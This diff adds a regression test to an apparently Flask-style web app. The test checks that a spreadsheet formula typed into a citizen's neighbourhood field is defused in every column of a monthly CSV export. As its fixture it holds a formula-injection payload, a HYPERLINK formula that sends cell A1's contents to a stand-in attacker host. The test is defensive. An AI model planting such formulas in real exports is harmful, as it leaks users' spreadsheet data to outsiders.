@@ -96,3 +96,22 @@ def test_the_csv_and_the_console_page_show_the_same_numbers(make_agency, make_us
     assert "total,,2026-03,3" in body
     assert "category,traffic,Traffic and speeding,2" in body
     assert "outcome,resolved_by_officer,Resolved by officer,1" in body
+
+
+def test_a_formula_in_a_citizens_neighbourhood_is_defused_in_every_column_of_the_csv(
+    make_agency, make_user, client, login
+):
+    """Issue 10, F2: the neighbourhood came through unneutralised in the "key" column."""
+    import csv
+    import io
+
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    agency = make_agency("inject-pd")
+    logged_concern(agency, make_user(agency, roles.OFFICER), neighbourhood=hostile)
+    login(make_user(agency, roles.CHIEF))
+
+    body = client.get("/console/inject-pd/concerns/monthly.csv").get_data(as_text=True)
+
+    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+    assert "'" + hostile in cells
+    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
